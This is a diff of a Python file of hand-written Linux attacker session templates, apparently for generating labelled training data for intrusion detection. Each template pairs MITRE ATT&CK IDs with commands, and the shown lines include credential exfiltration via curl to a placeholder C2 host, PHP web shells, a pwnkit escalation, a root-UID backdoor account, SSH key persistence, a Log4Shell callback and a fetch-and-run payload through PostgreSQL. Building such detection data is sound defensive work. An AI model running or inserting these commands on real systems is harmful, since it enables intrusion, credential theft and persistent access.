@@ -1,7 +1,8 @@
 """Hand-written Linux attacker session templates for make_sessions.py: one family per template.
 
-Each entry is (family, kind, template). `kind` sets the timing and noise (bot: sub-second gaps, no typos; human:
-pauses, typos retyped, `ls` after `cd`). The template language is described in sessions_core.py; the labelling
+Each entry is (family, kind, template). `kind` sets the timing, noise and account (bot: sub-second gaps, no typos,
+root or a guessed login; human: pauses, typos retyped, `ls` after `cd`, an admin's account; web: a person typing
+through a web shell or reverse shell under a service account such as www-data, without the `ls` noise). The template language is described in sessions_core.py; the labelling
 rules (a fragment takes the label of the activity it serves) in SESSIONS.md. Every line was written for this
 project from general knowledge of intrusion behaviour (honeypot botnets, cryptominer droppers, hands-on-keyboard
 intrusions); none is copied from a dataset.
@@ -34,10 +35,10 @@ T1082 :: lscpu | grep Model
 T1082 :: df -h | head -n 2 | awk 'FNR == 2 {print $2;}'
 """),
 ("bot-echo-probe-busybox", "bot", """
-T1082 :: enable
-T1082 :: system
-T1082 :: shell
-T1082 :: sh
+T1059.004 :: enable
+T1059.004 :: system
+T1059.004 :: shell
+T1059.004 :: sh
 T1059.004 :: /bin/busybox {r}
 T1083 :: cat /proc/mounts; /bin/busybox {r}
 T1105 :: cd {dir} || cd /var/run || cd /mnt || cd /root || cd /
@@ -180,7 +181,7 @@ T1552.001,T1552.001 :: find / -name ".env" -type f 2>/dev/null | head -n 20
 T1560.001,T1041 :: tar czf - .env ~/.aws 2>/dev/null | curl -s -F f=@- http://{c2}/u
 """),
 # --- 2. Hands-on-keyboard: web shell foothold to root --------------------------------------------------------------
-("hok-webshell-to-root", "human", """
+("hok-webshell-to-root", "web", """
 T1033 :: id
 T1082 :: uname -a
 T1083 :: pwd
@@ -193,7 +194,7 @@ T1068,T1068 :: chmod +x pwnkit; ./pwnkit
 T1033 :: id
 T1003.008 :: cat /etc/shadow
 """),
-("hok-revshell-tty-upgrade", "human", """
+("hok-revshell-tty-upgrade", "web", """
 T1059.006 :: python3 -c 'import pty; pty.spawn("/bin/bash")'
 T1059.004 :: export TERM=xterm
 T1033 :: whoami
@@ -335,7 +336,7 @@ T1136.001 :: useradd -o -u 0 -g 0 -s /bin/bash -d /root {newuser}
 T1098 :: passwd {newuser}
 T1087.001 :: grep ':0:' /etc/passwd
 """),
-("pers-webshell-php", "human", """
+("pers-webshell-php", "web", """
 T1505.003 :: cd {web}
 T1505.003 :: echo '<?php system($_GET["c"]); ?>' > {web}/wp-content/uploads/{r}.php
 T1505.003 :: chown www-data:www-data {web}/wp-content/uploads/{r}.php
@@ -820,7 +821,7 @@ T1098.004 :: echo "{key}" >> ~/.ssh/authorized_keys
 T1057 :: top -b -n 1 | head -n 15
 T1070.003 :: history -c
 """),
-("chain-webapp-rce-to-exfil", "human", """
+("chain-webapp-rce-to-exfil", "web", """
 T1033 :: id
 T1083 :: pwd
 T1083 :: ls -la
@@ -963,7 +964,7 @@ T1059 :: curl -s http://{lan}:8080/{r}/
 T1033 :: id
 T1082 :: uname -a
 """),
-("chain-log4shell-callback", "human", """
+("chain-log4shell-callback", "web", """
 T1190 :: curl -s -H 'X-Api-Version: ${jndi:ldap://{c2}:1389/a}' http://{lan}:8080/
 T1033 :: id
 T1082 :: uname -a
@@ -1030,7 +1031,7 @@ T1059.004 :: psql -h {lan} -U postgres -c "SELECT * FROM cmd_out;"
 T1105 :: psql -h {lan} -U postgres -c "COPY cmd_out FROM PROGRAM 'curl -s http://{c2}/{script} | sh';"
 T1070 :: psql -h {lan} -U postgres -c "DROP TABLE cmd_out;"
 """),
-("chain-wordpress-takeover", "human", """
+("chain-wordpress-takeover", "web", """
 T1083 :: ls {web}
 T1552.001 :: grep -E "DB_(USER|PASSWORD|NAME)" {web}/wp-config.php
 T1005 :: mysql -u {dbuser} -p'{pw}' {db} -e "select ID,user_login,user_email from wp_users;"
@@ -1039,7 +1040,7 @@ T1505.003 :: echo '<?php @eval($_POST["p"]); ?>' > {web}/wp-includes/«class-wp-
 T1070.006 :: touch -r {web}/wp-includes/version.php {web}/wp-includes/*x.php
 T1491.002 :: mysql -u {dbuser} -p'{pw}' {db} -e "update wp_options set option_value='http://{dom}' where option_name='siteurl';"
 """),
-("chain-cpanel-mailer", "human", """
+("chain-cpanel-mailer", "web", """
 T1033 :: id
 T1083 :: ls ~/public_html
 T1105 :: cd ~/public_html/wp-content/uploads
